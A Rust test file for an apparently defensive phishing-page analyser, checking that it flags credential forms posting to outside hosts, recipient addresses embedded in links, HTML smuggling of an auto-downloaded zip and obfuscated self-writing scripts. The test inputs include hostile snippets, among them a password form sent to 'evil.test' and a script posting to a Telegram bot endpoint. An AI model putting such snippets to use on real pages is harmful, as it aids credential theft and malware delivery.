//! Pages by their findings.

use proptest::prelude::*;

use crate::{Hints, Input, unpack};

fn tree(name: &str, source: &str, hints: &Hints) -> crate::Tree {
    let bytes = bytes::Bytes::copy_from_slice(source.as_bytes());
    unpack("", vec![Input { name: name.to_owned(), declared: None, bytes }], hints)
}

/// Findings of pages and lures, and the files that came out.
fn check(source: &str) -> String {
    check_with(source, &Hints::default())
}

fn check_with(source: &str, hints: &Hints) -> String {
    let tree = tree("page.html", source, hints);
    let mut out: Vec<String> = Vec::new();
    for file in &tree.files {
        let told = |n: &&str| n.starts_with("HTM-") || n.starts_with("LURE-") || n.starts_with("SCRIPT-");
        out.extend(file.findings.iter().map(|f| f.id.name()).filter(told).map(str::to_owned));
    }
    let made = tree.files.iter().filter(|f| f.relation == crate::Relation::Decoded);
    out.extend(made.map(|f| format!("file {}", f.name)));
    out.dedup();
    out.join(" ")
}

#[test]
fn a_password_that_goes_elsewhere() {
    let form =
        |action: &str| format!("<form action='{action}'><p>Sign</p><input type=password name=p></form>");
    assert_eq!(check(&form("https://evil.test/a.php")), "HTM-CRED-FORM");
    // A generator of passwords, a page of its own, an envelope of encrypted mail.
    assert_eq!(check(&form("")), "");
    assert_eq!(check(&form("/login")), "");
    assert_eq!(check(&form("https://res.cisco.com/websafe/root")), "");
    let telegram =
        "<input type=password><script>var t='x';fetch('https://api.telegram.org/bot'+t+'/send')</script>";
    assert_eq!(check(telegram), "HTM-CRED-FORM");
}

#[test]
fn an_address_is_built_in() {
    let to = |url: &str| format!("<html><body><a href=\"{url}\">open</a></body></html>");
    assert_eq!(check(&to("https://a.test/#bob@corp.test")), "HTM-RCPT-EMBED");
    assert_eq!(check(&to("https://a.test/?e=Ym9iQGNvcnAudGVzdA==")), "HTM-RCPT-EMBED");
    assert_eq!(check(&to("https://a.test/x?626f6240636f72702e74657374")), "HTM-RCPT-EMBED");
    // How to reach the sender.
    assert_eq!(check(&to("mailto:bob@corp.test")), "");
    assert_eq!(check("<p>Write to bob@corp.test</p>"), "");
    // The owner's, in a field or in a path.
    assert_eq!(check("<input value='owner@shop.test'><script>var a = 'owner@shop.test'</script>"), "");
    assert_eq!(check(&to("https://a.test/1990.14@news.test")), "");
    let hints = Hints { recipients: vec!["ann@corp.test".to_owned()], ..Hints::default() };
    assert_eq!(check_with("<input value='ann@corp.test'>", &hints), "HTM-RCPT-EMBED");
    assert_eq!(check_with(&to("https://a.test/#bob@corp.test"), &hints), "");
    assert_eq!(check_with("<script>var u='YW5uQGNvcnAudGVzdA'</script>x", &hints), "HTM-RCPT-EMBED");
}

#[test]
fn data_addresses_of_pictures_are_nothing() {
    assert_eq!(
        check("<img src='data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'>text"),
        ""
    );
}

#[test]
fn a_large_payload_is_still_found() {
    let mut zip = b"PK\x03\x04".to_vec();
    zip.resize(3 << 20, 7);
    use base64::Engine as _;
    let text = base64::engine::general_purpose::STANDARD.encode(&zip);
    let page = format!(
        "<html><body><script>var b=atob(\"{text}\");var a=document.createElement('a');\
         a.href=URL.createObjectURL(new Blob([b]));a.download='big.zip';a.click()</script></body></html>"
    );
    assert_eq!(check(&page), "HTM-SMUGGLE HTM-SMUGGLE-AUTOCLICK HTM-EMBED-ARCHIVE file big.zip");
}

#[test]
fn libraries_of_everybody_are_no_news() {
    let page =
        |src: &str| tree("r.html", &format!("<p>Report</p><script src='{src}'></script>"), &Hints::default());
    let worst = |t: &crate::Tree| t.files.iter().flat_map(|f| &f.findings).map(|f| f.severity).max();
    assert_eq!(worst(&page("https://code.jquery.com/jquery.js")), Some(crate::Severity::Info));
    assert_eq!(worst(&page("https://evil.test/jquery.js")), Some(crate::Severity::Medium));
}

#[test]
fn a_page_that_writes_itself_ends() {
    let quine = "<script>var s=unescape('%3Cscript%3Edocument.write(%22x%22)%3C/script%3E');document.write(s)</script>";
    assert!(check(quine).starts_with("HTM-OBF-UNESCAPE file written_0.html"));
}

#[test]
fn svg_is_read_for_its_names() {
    let svg = "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload=\"location='https://a.test/'\"><script>1</script></svg>";
    let tree = tree("a.svg", svg, &Hints::default());
    let xml = tree.files[0].facts.xml.clone().unwrap();
    assert_eq!(xml.tags, ["svg", "script"]);
    assert_eq!(xml.namespaces, ["http://www.w3.org/2000/svg"]);
    assert_eq!(xml.version.as_deref(), Some("1.0"));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 100, ..ProptestConfig::default() })]

    #[test]
    fn any_page_is_read(pieces in proptest::collection::vec(proptest::sample::select(vec![
        "<html>", "<script>", "</script>", "<a href=", "'data:text/html;base64,PGI+'", ">", "<form action=http://a/>",
        "<svg onload=a()>", "<input type=password>", "document.write(unescape('%3c'))", "<meta http-equiv=refresh content='0;url=//a.b'>",
        "x", "<iframe srcdoc='<script>1</script>'>", "<title>DocuSign</title>", "é\u{0}", "<!--", "-->", "location=",
    ]), 0..40)) {
        check(&pieces.concat());
    }
}
